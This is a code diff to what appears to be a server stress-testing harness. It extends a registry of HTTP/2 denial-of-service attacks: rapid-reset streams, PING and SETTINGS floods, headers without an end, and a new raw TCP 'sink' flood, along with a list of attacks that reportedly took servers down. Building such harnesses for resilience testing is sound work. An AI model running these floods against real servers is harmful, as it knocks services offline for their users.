@@ -7,6 +7,7 @@ with "web:" are against its gateway.
 
 import asyncio
 import itertools
+import socket
 import sys
 import time
 from collections.abc import Callable, Mapping
@@ -148,6 +149,7 @@ def _reset(
     *,
     count: int = 8,
     most: int | None = None,
+    each: int = 100,
     call: Callable[..., bytes] = frames.call,
 ) -> None:
     """Make calls and take them back at once.
@@ -157,6 +159,7 @@ def _reset(
         seconds: how long.
         count: connections.
         most: calls on a connection, which is then opened anew; None: until the server closes it.
+        each: calls at a time.
         call: makes the frames of one.
     """
     with Connections(address, count) as connections:
@@ -164,7 +167,7 @@ def _reset(
         for n, connection in zip(itertools.cycle(range(count)), connections.rounds(seconds)):
             if connection.sent == 0:
                 calls[n] = 0
-            few = range(2 * calls[n] + 1, 2 * calls[n] + 201, 2)
+            few = range(2 * calls[n] + 1, 2 * (calls[n] + each) + 1, 2)
             calls[n] += len(few)
             connection.send(b"".join(call(k, SUBMIT, more=b"\x00") + frames.reset(k) for k in few))
             if most is not None and calls[n] >= most:
@@ -178,6 +181,17 @@ def _flood(unit: bytes, address: str, seconds: float, *, first: bytes = b"") -> 
             if connection.sent == 0:
                 connection.send(first)
             connection.send(unit * (_FLOODED // len(unit)))
+
+
+def _pour(address: str, seconds: float) -> None:
+    """Flood what reads and does nothing else."""
+    until, content = time.monotonic() + seconds, bytes(_FLOODED)
+    host, _, port = address.rpartition(":")
+    opened = [socket.create_connection((host, int(port))) for _ in range(8)]
+    for one in itertools.cycle(opened):
+        if time.monotonic() >= until:
+            break
+        one.sendall(content)
 
 
 def _calls(address: str, seconds: float) -> None:
@@ -219,14 +233,21 @@ ATTACKS: Mapping[str, Attack] = MappingProxyType(
         "rapid reset": _reset,
         "rapid reset, many connections": partial(_reset, count=100),
         "rapid reset, new connections": partial(_reset, most=1_000),
+        "rapid reset, 50 a connection": partial(_reset, count=50, most=50, each=50),
         "pings": partial(_flood, frames.frame(FrameKind.PING, payload=bytes(8))),
         "settings": partial(_flood, frames.settings(window=65_535)),
         "headers without an end": partial(
             _flood, _CONTINUED, first=frames.frame(FrameKind.HEADERS, 1, frames.fields((":a", "b")))
         ),
+        "sink": _pour,
         **WEB_ATTACKS,
     }
 )
+JUDGED = (
+    *(name for name in WEB_ATTACKS if name.startswith("web: judged, ")),
+    "rapid reset, 50 a connection",
+)
+"""Those that took a server down which parsed HTTP itself, and two more."""
 
 
 if __name__ == "__main__":
